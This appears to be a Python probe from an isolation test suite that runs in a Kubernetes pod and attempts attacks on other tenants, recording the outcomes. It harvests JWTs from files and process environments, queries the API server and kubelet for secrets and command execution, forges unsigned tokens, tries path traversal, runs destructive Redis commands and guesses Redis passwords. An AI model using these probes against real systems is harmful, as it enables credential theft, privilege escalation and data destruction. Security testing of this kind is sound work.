"""What a worker's code might try against others. It runs in a pod, with that pod's own files.

Given on standard input to the image's Python, with whom to attack as JSON; it writes as JSON what
came of each attempt: status and text of an HTTP answer, what Redis answered, or an error. What that
means is for `verdicts.py` to say. What is the pod's own stands beside it, under "own": if that is
not opened, nothing here proves anything.
"""

import base64
import http.client
import json
import os
import re
import ssl
import sys
from pathlib import Path
from urllib.parse import quote, urlsplit

import redis
from redis.exceptions import RedisError

from esper.configs import EsperConfig
from esper.contracts.messages import TopicNames

TOLD = json.loads(sys.argv[1])
SETTINGS = Path(TOLD.get("settings", "/etc/esper"))
CONFIG = EsperConfig.load(file=SETTINGS / "esper.yaml", environment={})
TOKEN = (SETTINGS / "hub-token").read_text().strip()
SECONDS = 5.0
JWT = re.compile(rb"eyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]*")
UNVERIFIED = ssl._create_unverified_context()


def asked(url, method="GET", body=None, token=TOKEN):
    """An answer's status and text, or the error; the path goes out as it is written."""
    parts = urlsplit(url)
    kinds = {"http": http.client.HTTPConnection, "https": http.client.HTTPSConnection}
    given = {"context": UNVERIFIED} if parts.scheme == "https" else {}
    client = kinds[parts.scheme](parts.hostname, parts.port, timeout=SECONDS, **given)
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    if body is not None:
        headers["Content-Type"] = "application/json"
    elif method == "PUT":
        headers["Content-Type"] = "application/octet-stream"
    target = url[len(f"{parts.scheme}://{parts.netloc}") :]
    try:
        client.request(method, target, None if body is None else json.dumps(body), headers)
        answer = client.getresponse()
        return {"status": answer.status, "text": answer.read(2**20).decode(errors="replace")}
    except (OSError, http.client.HTTPException) as error:
        return failure(error)
    finally:
        client.close()


def failure(error):
    return {"error": type(error).__name__, "text": str(error)}


def told(came):
    """As it is written: what a text begins with is enough to know it by."""
    return came | {"text": came["text"][:160]}


# The API server, the node, and files


def credentials():
    """Every JSON Web Token that can be read, by its claims, and what looks like an account."""
    mounts = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    skipped = re.compile(r"^/(proc|sys|dev/(?!shm|termination-log))|^/dev$|^/$")
    files = {
        path.resolve()
        for mount in mounts
        if not skipped.match(mount)
        for path in [Path(mount), *Path(mount).rglob("*")]
        if path.is_file()
    }
    files |= {Path(f"/proc/{name}/environ") for name in os.listdir("/proc") if name.isdigit()}
    found = set()
    for path in files:
        try:
            found |= set(JWT.findall(path.read_bytes()))
        except OSError:
            continue  # of another user's process
    claims = [json.loads(base64.urlsafe_b64decode(t.split(b".")[1] + b"==")) for t in found]
    names = ("serviceaccount", "kubeconfig", ".kube")
    # Symbolic links are not followed, and packages name none of them.
    accounts = [
        os.path.join(folder, name)
        for top in ("/var", "/run", "/etc", "/home", "/root", "/tmp", "/opt/esper/models")
        for folder, folders, here in os.walk(top)
        for name in (*folders, *here)
        if name in names
    ]
    return {"tokens": claims, "accounts": accounts}


def api_server():
    server = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:443"
    other = TOLD["victims"][0]["namespace"]
    paths = [
        *("/api/v1/secrets", f"/api/v1/namespaces/{other}/secrets", "/api/v1/pods"),
        *(f"/api/v1/namespaces/{TOLD['release']}/secrets/esper-credentials", "/api/v1/nodes"),
        *(f"/apis/esper.dev/v1alpha1/namespaces/{other}/trainingsessions", "/apis", "/metrics"),
        *("/api/v1/nodes/esper-1/proxy/pods", "/openapi/v2"),
    ]
    for path in paths:
        for name in (server, "https://kubernetes.default.svc"):
            yield f"{name}{path}", asked(f"{name}{path}", token=None)
    yield "as the hub's", asked(f"{server}/api/v1/secrets")
    account = f"{server}/api/v1/namespaces/{other}/serviceaccounts/default/token"
    body = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    yield "a token of an account", asked(account, "POST", body, token=None)


def node():
    address = TOLD["node"]
    for path in ("/pods", "/configz", "/metrics", "/runningpods/", "/logs/"):
        yield f"kubelet {path}", asked(f"https://{address}:10250{path}", token=None)
        yield f"kubelet {path} as the hub's", asked(f"https://{address}:10250{path}")
    victim = TOLD["victims"][0]
    run = f"https://{address}:10250/run/{victim['namespace']}/{victim['pod']}/worker?cmd=env"
    yield "kubelet runs", asked(run, "POST", token=None)
    for port in (10255, 2379, 10249):
        yield f"port {port}", asked(f"http://{address}:{port}/metrics", token=None)
    for port in (2379, 10257, 10259):
        yield f"port {port} with TLS", asked(f"https://{address}:{port}/metrics", token=None)


# The hub


def forged(**changed):
    """This pod's token with other claims: unsigned, and with the signature that it has."""
    header, claims, signature = TOKEN.split(".")
    given = json.loads(base64.urlsafe_b64decode(claims + "=="))

    def part(document):
        return base64.urlsafe_b64encode(json.dumps(document).encode()).decode().rstrip("=")

    other = part({**given, **changed})
    none = part({"alg": "none", "typ": "JWT"})
    return f"{header}.{other}.{signature}", f"{none}.{other}."


def hub():
    url = CONFIG.hub.url
    kernel = TOLD["kernel"]
    lease = {"lease": "0" * 32}
    plain = [
        *(("POST", f"/internal/requested-kernels/{kernel}/credentials", None),),
        *(("POST", "/internal/operator/credentials", None), ("GET", "/internal/namespaces", None)),
        *(("GET", "/internal/requested-kernels", None),),
        ("POST", "/internal/requested-kernels/claim", {"worker": "intruder"}),
        ("POST", "/internal/unvalidated-blueprints/claim", {"worker": "intruder"}),
        ("DELETE", f"/api/v1/kernels/{kernel}", None),
        ("POST", f"/api/v1/kernels/{kernel}/archive", None),
    ]
    if TOLD["kernel_is_foreign"]:
        work = f"/internal/requested-kernels/{kernel}"
        plain += [
            ("POST", f"{work}/claim", {"worker": "intruder"}),
            ("POST", f"{work}/heartbeat", lease),
            ("POST", f"{work}/release", {"worker": "intruder", **lease}),
            ("POST", f"{work}/result", {**lease, "error": "forged"}),
            ("PUT", f"{work}/artifact?digest={'0' * 64}&bytes=9", None),
            *(
                ("GET", f"/api/v1/kernels/{kernel}{part}", None)
                for part in ("", "/metadata", "/artifact")
            ),
        ]
    for victim in TOLD["victims"]:
        uid, place = victim["uid"], f"/api/v1/sessions/{victim['uid']}"
        kept = quote(victim["object"])
        namespace = victim["namespace"]
        session = {
            "name": victim["name"],
            "uid": uid,
            "namespace": namespace,
            "epochs": 1,
            "numLayers": 1,
            "numSlots": 1,
        }
        plain += [
            *(("GET", place, None), ("PUT", place, session), ("DELETE", place, None)),
            ("POST", "/api/v1/sessions/", session),
            ("POST", f"{place}/archive", None),
            ("GET", f"{place}/objects", None),
            ("GET", f"{place}/objects/{kept}", None),
            ("DELETE", f"{place}/objects/{kept}", None),
            ("PUT", f"{place}/objects/{kept}?digest={'0' * 64}&bytes=0", None),
            ("POST", f"/internal/sessions/{uid}/credentials", {"namespace": namespace}),
            ("DELETE", f"/internal/sessions/{uid}/credentials", None),
            ("POST", f"/internal/namespaces/{namespace}/credentials", None),
            ("GET", f"/api/v1/kernels/?session={uid}", None),
            ("GET", f"/api/v1/blueprints/?session={uid}", None),
        ]
        own = f"/api/v1/sessions/{TOLD['own']['uid']}"
        plain += [
            ("GET", f"{own}/objects/{way}{uid}/{kept}", None)
            for way in ("../../", "%2e%2e/", "..%2f", "..%2F..%2Fsessions%2F", "/", "%00/", "..\\")
        ]
        plain += [("GET", f"{own}/../{uid}/objects", None), ("GET", f"{own}%2F..%2F{uid}", None)]
    own = TOLD["own"]
    yield from (
        (f"{method} {path}", asked(f"{url}{path}", method, body)) for method, path, body in plain
    )
    for role in ("admin", "worker", "session"):
        for number, token in enumerate(forged(role=role, sub=TOLD["victims"][0]["uid"])):
            path = f"/api/v1/sessions/{TOLD['victims'][0]['uid']}"
            yield f"forged {role} {number}", asked(f"{url}{path}", token=token)
    yield "no token", asked(f"{url}/api/v1/sessions/", token=None)
    sweep = {"namespace": own["namespace"], "liveUids": [], "gatheredAt": "2099-01-01T00:00:00Z"}
    yield "sweep", asked(f"{url}/internal/sessions/sweep", "POST", sweep)


def listed():
    """What the hub lists for this pod's token: ids, and uids of sessions."""
    for path, key in (("sessions", "uid"), ("kernels", "kernel"), ("blueprints", "digest")):
        came = asked(f"{CONFIG.hub.url}/api/v1/{path}/?limit=100")
        found = came.get("status")
        ids = [each[key] for each in json.loads(came["text"])["items"]] if found == 200 else None
        yield path, found if ids is None else ids


def told_by_metrics():
    """Names, uids or passwords of others that are told to whoever asks for metrics."""
    secrets = [v[key] for v in TOLD["victims"] for key in ("uid", "name", "namespace", "pod")]
    for url in TOLD["metrics"]:
        came = asked(url, token=None)
        found = [each for each in secrets if each in came["text"]]
        yield url, {"status": came.get("status"), "told": found}


# The bus


def commanded(client, *words):
    """What Redis answered to a command, or its error; the client takes an error's code out."""
    try:
        return {"answer": f"{client.execute_command(*words)!r:.120}"}
    except RedisError as error:
        return failure(error) | {"code": error.status_code}


def connected(url=None):
    return redis.Redis.from_url(
        url or CONFIG.redis.url or TOLD["redis"], socket_timeout=SECONDS, decode_responses=True
    )


def on_stream(key, own):
    """Everything that can be done to a stream, and to any key."""
    return [
        *(["XLEN", key], ["XRANGE", key, "-", "+"], ["XREVRANGE", key, "+", "-"]),
        *(["XREAD", "COUNT", 1, "STREAMS", key, 0], ["XTRIM", key, "MAXLEN", 0]),
        ["XREADGROUP", "GROUP", "tamiyo", "intruder", "STREAMS", key, ">"],
        *(["XADD", key, "*", "intruder", "here"], ["XDEL", key, "0-1"], ["XSETID", key, "9-9"]),
        ["XGROUP", "CREATE", key, "intruder", "0", "MKSTREAM"],
        *(["XGROUP", "DESTROY", key, "tamiyo"], ["XGROUP", "SETID", key, "tamiyo", "0"]),
        *(["XINFO", "STREAM", key], ["XINFO", "GROUPS", key], ["XPENDING", key, "tamiyo"]),
        *(["XACK", key, "tamiyo", "0-1"], ["XAUTOCLAIM", key, "tamiyo", "intruder", 0, 0]),
        *(["DEL", key], ["UNLINK", key], ["EXISTS", key], ["TYPE", key], ["DUMP", key]),
        *(["RENAME", key, own], ["COPY", key, own], ["EXPIRE", key, 1], ["OBJECT", "FREQ", key]),
        *(["MEMORY", "USAGE", key], ["SORT", key], ["GET", key], ["SET", key, "intruder"]),
        ["MIGRATE", "198.51.100.1", 6379, key, 0, 10],
    ]


ON_SERVER = [
    *(["KEYS", "*"], ["SCAN", 0], ["RANDOMKEY"], ["DBSIZE"], ["SELECT", 1], ["INFO"], ["ROLE"]),
    *(["CONFIG", "GET", "*"], ["CONFIG", "SET", "maxmemory", 1], ["CONFIG", "REWRITE"]),
    *(["ACL", "LIST"], ["ACL", "USERS"], ["ACL", "GETUSER", "esper-hub"], ["ACL", "LOG"]),
    *(["ACL", "SETUSER", "intruder", "on", "nopass", "+@all", "~*"], ["ACL", "SAVE"]),
    *(["CLIENT", "LIST"], ["CLIENT", "KILL", "TYPE", "normal"], ["CLIENT", "PAUSE", 1]),
    *(["MONITOR"], ["SUBSCRIBE", "c"], ["PSUBSCRIBE", "*"], ["PUBLISH", "c", "m"]),
    *(["PUBSUB", "CHANNELS"], ["EVAL", "return 1", 0], ["SCRIPT", "LOAD", "return 1"]),
    *(["FUNCTION", "LIST"], ["DEBUG", "SLEEP", 0], ["SAVE"], ["BGSAVE"], ["BGREWRITEAOF"]),
    *(["FLUSHALL"], ["FLUSHDB"], ["SWAPDB", 0, 1], ["REPLICAOF", "NO", "ONE"], ["MODULE", "LIST"]),
    *(["SLOWLOG", "GET"], ["LATENCY", "LATEST"], ["RESTORE", "intruder", 0, "x"], ["LASTSAVE"]),
    *(["SHUTDOWN", "NOSAVE"], ["FAILOVER"], ["WAIT", 0, 1], ["COMMAND", "COUNT"]),
]


def bus():
    client, own = connected(), TOLD["own"]
    own_key = f"esper:{own['namespace']}:{own['uid']}:{TopicNames.PACKETS}"
    keys = ["intruder"]
    if not TOLD["serves_namespace"]:
        keys += [f"esper:{own['namespace']}:-:{TopicNames.PACKETS}"]
    for victim in TOLD["victims"]:
        if victim["namespace"] != TOLD["namespace"] or not TOLD["serves_namespace"]:
            place = f"esper:{victim['namespace']}:{victim['uid']}"
            keys += [f"{place}:{topic}{end}" for topic in TopicNames for end in ("", ":dead")]
    for key in keys:
        for words in on_stream(key, own_key):
            yield f"{' '.join(map(str, words))}", commanded(client, *words)
    for words in ON_SERVER:
        yield " ".join(map(str, words)), commanded(client, *words)
    # What is forged would stand in this session's own streams, where it is believed.
    for topic in TOLD["never_published"]:
        for key in (f"esper:{own['namespace']}:{own['uid']}:{topic}",):
            words = ["XADD", key, "*", "data", "{}"]
            yield f"forged {' '.join(words)}", commanded(client, *words)
    read = ["XRANGE", keys[-2], "-", "+"]
    with client.pipeline(transaction=True) as pipe:
        try:
            pipe.execute_command(*read)
            yield "in a transaction", {"answer": f"{pipe.execute()!r:.120}"}
        except RedisError as error:
            yield "in a transaction", failure(error) | {"code": error.status_code}
    where = connected().connection_pool.connection_kwargs
    server = f"{where['host']}:{where['port']}"
    passwords = {
        *("", "none", "esper-hub", "redis", TOKEN),
        urlsplit(CONFIG.redis.url or "").password or "password",
    }
    users = ["default", "esper-hub", "esper-operator", "esper-probe"]
    for victim in TOLD["victims"]:
        namespace = victim["namespace"]
        users += [f"esper-session:{namespace}:{victim['uid']}", f"esper-namespace:{namespace}"]
    for user in users:
        if CONFIG.redis.url and quote(user, safe="") == urlsplit(CONFIG.redis.url).username:
            continue  # this pod's own
        for number, password in enumerate(sorted(passwords)):
            address = f"redis://{quote(user, safe='')}:{quote(password, safe='')}@{server}/0"
            yield f"as {user} by guess {number}", commanded(connected(address), *read)
    yield "without a user", commanded(connected(f"redis://{server}/0"), *read)


def main():
    attempts = {
        **{f"api server {name}": told(came) for name, came in api_server()},
        **{f"node {name}": told(came) for name, came in node()},
        **{f"hub {name}": told(came) for name, came in hub()},
        **{f"bus {name}": came for name, came in bus()},
    }
    client = connected()
    own = {" ".join(map(str, words)): commanded(client, *words) for words in TOLD["own_commands"]}
    own |= {path: told(asked(f"{CONFIG.hub.url}{path}")) for path in TOLD["own_paths"]}
    said = {
        "attempts": attempts,
        "own": own,
        "credentials": credentials(),
        "listed": dict(listed()),
        "metrics": dict(told_by_metrics()),
    }
    sys.stdout.write(json.dumps(said))


if __name__ == "__main__":
    main()
